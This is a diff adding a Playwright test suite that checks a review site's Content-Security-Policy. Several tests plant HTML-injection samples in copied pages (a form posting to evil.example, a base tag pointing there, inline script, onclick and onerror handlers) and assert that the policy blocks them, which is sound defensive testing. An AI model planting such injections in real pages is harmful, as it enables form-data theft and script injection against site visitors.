@@ -1,0 +1,135 @@
+"""The policy of every page: the site passes it, and what slips into a page does not."""
+
+import re
+import shutil
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from playwright.sync_api import Browser, Page
+
+from browser import served
+from reviews.pages.policy import inline_scripts, protected
+
+META = '<meta http-equiv="Content-Security-Policy"'
+# Said aloud, for the browser tells of it where nobody listens.
+LISTEN = """window.violations = []
+document.addEventListener("securitypolicyviolation", (event) =>
+  violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`))"""
+PATHS = (
+    "",
+    "issues/",
+    "issues/2020-W29/",
+    "topics/",
+    "topics/nlp/",
+    "notes/2007.06600/",
+    "notes/2007.07834/",
+    "reviewers/",
+    "reviewers/rosinality/",
+    "subscribe/",
+    "about/",
+    "abs/2007.06600/",
+    "abs/2007.06600v9/",
+    "abs/2007.99999/",
+    "nowhere/",
+)
+
+
+@pytest.fixture
+def page(chromium: Browser) -> Iterator[Page]:
+    context = chromium.new_context()
+    context.add_init_script(LISTEN)
+    yield context.new_page()
+    context.close()
+
+
+def test_every_page_has_its_policy_before_anything_else(built: Path) -> None:
+    for file in built.rglob("*.html"):
+        head = file.read_text(encoding="utf-8").partition("</head>")[0]
+        assert head.count(META) == 1, file
+        assert not re.search(r"<(?:script|link|style|title)", head.partition(META)[0]), file
+
+
+def test_no_policy_allows_scripts_at_large(built: Path) -> None:
+    for file in built.rglob("*.html"):
+        policy = re.search(rf'{META} content="([^"]*)"', file.read_text(encoding="utf-8"))
+        assert policy is not None
+        rules = dict(rule.strip().partition(" ")[::2] for rule in policy[1].split(";"))
+        assert rules["default-src"] == "'none'"
+        assert not re.search("unsafe|https?:|\\*", rules.get("script-src", ""))
+
+
+def test_a_form_that_slips_into_a_page_sends_nothing_elsewhere(built: Path, page: Page, tmp_path: Path) -> None:
+    """What a reader types, or a browser fills in, stays; no script is needed to send a form."""
+    site = shutil.copytree(built, tmp_path / "site")
+    file = site / "notes" / "2007.06600" / "index.html"
+    slipped = "<form action='https://evil.example/'><input name='x'><button id='x'>x</button></form>"
+    file.write_text(file.read_text(encoding="utf-8").replace("<article", f"{slipped}<article", 1), encoding="utf-8")
+    with served(site) as base:
+        page.goto(f"{base}notes/2007.06600/")
+        page.locator("#x").dispatch_event("click")
+        # The page's own policy forbids `wait_for_function`, which evaluates a text whenever it has to look twice.
+        for _ in range(200):
+            if found := page.evaluate("violations"):
+                break
+            page.wait_for_timeout(50)
+        assert found[0].startswith("form-action https://evil.example/")
+        assert page.url == f"{base}notes/2007.06600/"
+
+
+def test_a_base_that_slips_into_a_page_leads_no_link_elsewhere(built: Path, page: Page, tmp_path: Path) -> None:
+    site = shutil.copytree(built, tmp_path / "site")
+    file = site / "notes" / "2007.06600" / "index.html"
+    text = file.read_text(encoding="utf-8")
+    file.write_text(text.replace("<article", "<base href='https://evil.example/'><article", 1), encoding="utf-8")
+    with served(site) as base:
+        page.goto(f"{base}notes/2007.06600/")
+        assert page.evaluate("document.baseURI") == f"{base}notes/2007.06600/"
+
+
+def test_the_site_keeps_its_policy(built: Path, page: Page) -> None:
+    violations = {}
+    with served(built) as base:
+        for path in PATHS:
+            page.goto(base + path)
+            page.wait_for_load_state("networkidle")
+            violations[path] = page.evaluate("violations")
+    assert {path: found for path, found in violations.items() if found} == {}
+
+
+def test_search_copying_and_colours_keep_the_policy(built: Path, page: Page) -> None:
+    with served(built) as base:
+        page.goto(f"{base}notes/2007.06600/")
+        page.click("details.cite summary")
+        page.click("details.cite button[data-md-type=copy]")
+        page.click("form[data-md-component=palette] label:visible")
+        assert page.get_attribute("body", "data-md-color-media") != "(prefers-color-scheme)"
+        page.keyboard.press("s")
+        page.keyboard.type("GAN")
+        page.wait_for_selector(".md-search-result__item", state="attached")
+        assert page.evaluate("violations") == []
+
+
+def test_a_script_that_slips_into_a_page_does_not_run(built: Path, page: Page, tmp_path: Path) -> None:
+    site = shutil.copytree(built, tmp_path / "site")
+    for name in ("notes/2007.06600/index.html", "404.html"):
+        file = site / name
+        slipped = "<p id='x' onclick='ran = 1'>x</p><script>ran = 1</script><img src='x' onerror='ran = 1'>"
+        file.write_text(file.read_text(encoding="utf-8").replace("<article", f"{slipped}<article", 1), encoding="utf-8")
+    with served(site) as base:
+        for path in ("notes/2007.06600/", "nowhere/"):
+            page.goto(base + path)
+            page.locator("#x").dispatch_event("click")
+            page.wait_for_timeout(200)
+            assert page.evaluate("window.ran") is None
+            assert len(page.evaluate("violations")) == 3
+
+
+def test_only_trusted_scripts_are_allowed() -> None:
+    theme = '<meta charset="utf-8"><script>root=new URL("..",location)</script>'
+    trusted = inline_scripts(theme)
+    deeper = theme.replace('".."', '"../.."')
+    assert protected(deeper, trusted).count("sha256-") == 1
+    assert protected(deeper + "<script>alert(1)</script>", trusted).count("sha256-") == 1
+    assert protected(theme.replace("root", "alert"), trusted).count("sha256-") == 0
+    assert protected(theme, trusted) != protected(deeper, trusted)
